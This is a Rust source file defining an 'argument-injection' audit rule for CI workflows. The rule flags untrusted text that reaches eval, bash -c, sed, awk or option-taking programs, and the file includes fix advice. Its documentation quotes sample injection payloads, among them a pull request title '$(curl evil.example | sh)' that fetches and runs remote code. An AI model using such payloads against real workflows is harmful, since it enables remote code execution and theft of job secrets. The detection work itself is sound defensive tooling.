//! Text of strangers that a script has run by a program.

use crate::audit::{Audit, Check, RepositoryContext};
use crate::flow::Hazard;
use crate::flow::hazard::{Class, Fault};
use crate::model::program::Manner;
use crate::rule::{Docs, Family, Persona, Precision, Rule, Severity, text};

pub static AUDIT: Audit = Audit {
    rule: Rule {
        id: text("argument-injection"),
        family: Family::Workflow,
        title: text("Untrusted text is run by a program"),
        severity: Severity::High,
        precision: Precision::Medium,
        persona: Persona::Regular,
        kind: None,
        since: text("0.1.0"),
        online: false,
        fixable: false,
        aliases: &[
            "codeql:actions/argument-injection/critical",
            "codeql:actions/command-injection/critical",
            "sisakulint:argument-injection",
        ],
        docs: Docs {
            what: text(
                "A script hands a variable with text that strangers choose to something that runs it: `eval`, `bash -c`, `xargs sh -c`, `python -c`, `ssh`; or makes it part of the program of `sed` or `awk`, \
                 which can run commands; or leaves it without quotes among the arguments of a program with options that execute, such as `git` or `tar`.",
            ),
            why: text(
                "A variable in quotes is safe only as long as nobody reads it as code once more. Here somebody does, with the job's token and secrets: a pull \
                 request titled `$(curl evil.example | sh)` is run by `eval \"echo $TITLE\"`, one titled `e id` by `sed \"$TITLE\"`.",
            ),
            fix: text(
                "Give the text as data: as a quoted argument behind `--`, on standard input, or in the environment of the inner program. For `bash -c` pass it behind the code, \
                 `bash -c 'echo \"$1\"' _ \"$TITLE\"`.",
            ),
        },
    },
    checks: &[Check::Hazard(check)],
};

fn check(hazard: &Hazard, cx: &mut RepositoryContext<'_>) {
    let Fault::Run { program, manner } = &hazard.fault else { return };
    if hazard.trace.class < Class::Typed {
        return;
    }
    let (source, chosen, consequence) = (&hazard.trace.source, hazard.chosen(), hazard.consequence());
    let message = match manner {
        Manner::Code => format!("`{source}` {chosen}, and `{program}` runs it as code{consequence}"),
        Manner::Filter => {
            format!("`{source}` {chosen}, and becomes part of a program of `{program}`, which can run commands{consequence}")
        }
        Manner::Address | Manner::Key => return,
        Manner::Words | Manner::Tail => {
            format!("`{source}` {chosen}, and without quotes it can become options of `{program}`{consequence}")
        }
    };
    let least = match manner {
        Manner::Code => hazard.severity(),
        Manner::Filter => hazard.severity().min(Severity::High),
        Manner::Words | Manner::Tail | Manner::Address | Manner::Key => hazard.severity().min(Severity::Medium),
    };
    // What a caller or an insider gives is often meant to be run, and its words to be split.
    let persona = if hazard.trace.class == Class::Anyone { hazard.persona() } else { Persona::Pedantic };
    cx.report_hazard(hazard, message).severity(least).persona(persona);
}
